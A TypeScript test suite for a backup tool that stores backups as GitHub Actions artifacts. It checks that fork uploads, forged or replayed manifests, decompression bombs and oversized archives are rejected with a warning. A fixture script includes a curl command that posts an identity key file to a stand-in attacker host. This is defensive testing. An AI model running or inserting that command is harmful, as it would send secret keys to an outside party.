import { newIdentity } from '../../src/repository/keys.ts'
import { openKeys } from '../../src/repository/open-keys.ts'
import { authenticatorOf } from '../../src/repository/authenticator.ts'
import { GitHub, type StoredArtifact } from '../support/github/emulator.ts'
import { Jobs } from '../support/github/jobs.ts'
import { type Files, manyFiles } from '../support/github/zip.ts'
import { MemoryStore } from '../support/memory-store.ts'

const DAY = 86_400_000
const POISON = Buffer.from('#!/bin/sh\necho poisoned; curl https://evil.example -d @identity.txt\n')

let github: GitHub
let jobs: Jobs
let repositories = 0

/** A repository with two backups, of which the second depends on the first; each test has a copy of it. */
beforeAll(async () => {
  github = await GitHub.start()
  jobs = new Jobs(github, 'octo/shop')
  for (let day = 0; day < 2; day++) {
    jobs.change()
    expect(await jobs.run('backup')).toMatchObject({ status: 0, warnings: [] })
    github.offset += DAY
  }
})
afterAll(async () => {
  jobs?.close()
  await github?.stop()
})
beforeEach(() => {
  jobs.repository = `octo/attacked-${++repositories}`
  github.copyRepository('octo/shop', jobs.repository)
})

type Planted = Omit<Parameters<GitHub['plant']>[0], 'repository'>
const plant = (given: Planted): Promise<StoredArtifact> => github.plant({ repository: jobs.repository, ...given })

/** The files of the newest artifact, its script poisoned, its chunks and its snapshot with other bytes of the same length. */
async function poisoned(): Promise<Files> {
  const files = await jobs.files()
  return Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, name === 'parts.json' ? bytes : name === 'recover.sh' ? POISON : Buffer.alloc(bytes.length, 'evil')]))
}

async function strangersKey() {
  return authenticatorOf(await openKeys((await newIdentity()).identity, { store: new MemoryStore(), create: false }))
}

const bodyOf = (parts: Buffer) => parts.toString().slice(parts.indexOf('\n') + 1)

/** The upload of each attacker, and the warning that every command gives of it. */
const attacks: [string, () => Promise<unknown>, RegExp][] = [
  [
    "the artifact of a fork's pull request with the newest name, shadowed chunks and a poisoned recover.sh",
    async () => plant({ name: 'lifeboat-default', head: 'evil/shop', files: await poisoned() }),
    /^artifact lifeboat-default \(\d+\) is not looked at: the run of a fork uploaded it \(/,
  ],
  [
    'a hundred artifacts of forks',
    async () => {
      const files = await poisoned()
      for (let number = 1; number <= 100; number++) await plant({ name: number % 2 ? 'lifeboat-default' : `lifeboat-default.${number}`, head: 'evil/shop', files })
    },
    /^\d+ artifacts are not looked at: runs of forks uploaded them: lifeboat-default.*and \d+ more/,
  ],
  [
    'chunks shadowed by wrong bytes under the right names, with a parts.json that nobody signed',
    async () => {
      const files = await poisoned()
      await plant({ name: 'lifeboat-default', files: { ...files, 'parts.json': Buffer.from(bodyOf(files['parts.json']!)) } })
    },
    /^artifact lifeboat-default \(\d+\) counts as not there: it is not signed with the key given/,
  ],
  [
    'a parts.json that was edited',
    async () => {
      const files = await jobs.files()
      const parts = Buffer.from(files['parts.json']!.toString().replace('"needs":[', '"needs":[{"artifact":1,"name":"x","run":1,"expires":null,"objects":[]},'))
      // Deleted and uploaded again under its name, by a step of the very run that made it.
      const { name, run } = jobs.newest()
      await plant({ name, run: run.id, files: { ...files, 'parts.json': parts } })
    },
    /counts as not there: it is not signed with the key given/,
  ],
  [
    'a genuine parts.json replayed in an artifact with other contents',
    async () => plant({ name: 'lifeboat-default', files: await poisoned() }),
    /^artifact lifeboat-default \(\d+\) of run \d+ counts as not there: it is a copy of artifact lifeboat-default of run \d+/,
  ],
  [
    'a genuine artifact replayed as it is under another name',
    async () => plant({ name: 'lifeboat-default.2', run: jobs.newest().run.id, files: await jobs.files() }),
    /^artifact lifeboat-default.2 \(\d+\) of run \d+ counts as not there: it is a copy of artifact lifeboat-default of run \d+/,
  ],
  [
    'a forged snapshot of tomorrow, in an artifact that is signed with the key of a stranger',
    async () => {
      const files = await poisoned()
      const [name, bytes] = Object.entries(files).find(([name]) => name.startsWith('snapshots/'))!
      const forged: Files = { 'recover.sh': POISON, [name.replace(/\d{8}T/, '29991231T')]: bytes }
      const { sign } = await strangersKey()
      const run = 77
      const parts = { ...JSON.parse(bodyOf(files['parts.json']!)), run, needs: [], objects: Object.entries(forged).map(([key, { length }]) => [key, length, 'ab'.repeat(32)]) }
      await plant({ name: 'lifeboat-default', run, files: { ...forged, 'parts.json': sign(JSON.stringify(parts)) } })
    },
    /counts as not there: it is not signed with the key given/,
  ],
  [
    'markers and a parts.json of a newer format',
    async () => plant({ name: 'lifeboat-default', files: { 'lifeboat.json': Buffer.from('{"format":"lifeboat/9"}'), 'parts.json': Buffer.from('x\n{"format":"lifeboat-parts/9"}') } }),
    /counts as not there: it is not signed with the key given/,
  ],
  [
    'a parts.json that decompresses to a thousand times its size',
    async () => plant({ name: 'lifeboat-default', packed: true, files: { 'parts.json': Buffer.alloc(30_000_000) } }),
    /^parts.json in artifact lifeboat-default \(\d+\) is compressed, which no backup's is/,
  ],
  [
    'a directory of two hundred thousand files',
    async () => plant({ name: 'lifeboat-default', zip: manyFiles(200_000) }),
    /^artifact lifeboat-default \(\d+\) is damaged: its directory has \d+ bytes, more than the 16777216 it may have/,
  ],
  [
    'all further names that a run can have, uploaded by a step of the repository itself, named like further backups',
    async () => {
      const files = await poisoned()
      for (let number = 2; number <= 100; number++) await plant({ name: `lifeboat-default.${number}`, run: 4711, files })
    },
    /^99 artifacts count as not there: artifact lifeboat-default.*; and 96 more/,
  ],
]

test.each(attacks)('%s: every command goes through with one warning, and nothing of it is restored, carried or deleted', async (_, attack, warning) => {
  const honest = new Set(jobs.artifacts().map(({ id }) => id))
  await attack()
  const planted = jobs.artifacts().filter(({ id }) => !honest.has(id))
  const foreign = planted.filter(({ run }) => run.head !== run.repository)
  github.calls.length = 0
  const expectOneWarning = ({ status, warnings }: { status: number; warnings: string[] }) => expect([status, warnings]).toEqual([0, [expect.stringMatching(warning)]])

  jobs.change()
  const backup = await jobs.run('backup')
  expectOneWarning(backup)
  expect(backup.result.verified).toBe('read')
  // It depends on what the genuine ones have, and all that its artifact has comes from this program.
  expect(backup.result.added).toBeLessThan(backup.result.size / 2)
  const made = await jobs.files()
  expect(made['recover.sh']!.equals(POISON)).toBe(false)
  expect(made['lifeboat.json']!.toString()).toBe('{"format":"lifeboat/1"}\n')
  for (const bytes of Object.values(made)) expect(bytes.includes('evilevilevil')).toBe(false)

  const [list, check, verification, restored] = await Promise.all([jobs.run('list'), jobs.run('check', { 'max-age': '1d' }), jobs.run('verify', { level: 'read' }), jobs.restore()])
  for (const ended of [list, check, verification, restored]) expectOneWarning(ended)
  expect(list.result.snapshots.map(({ id, authentic }) => [id, authentic])).toEqual([[backup.result.snapshot, true], [expect.any(String), true], [expect.any(String), true]])
  expect(verification.result).toMatchObject({ result: 'verified', snapshot: backup.result.snapshot })
  expectOneWarning(await jobs.run('prune', { retention: 'last=1', grace: '1h', 'max-delete': '100%' }))
  const left = new Set(jobs.artifacts().map(({ id }) => id))
  expect(planted.filter(({ id }) => !left.has(id))).toEqual([])
  // Forks cost no request of their own.
  for (const { id, blob } of foreign) expect(github.calls.filter(({ path }) => path.includes(`/${id}`) || path.includes(blob))).toEqual([])
})
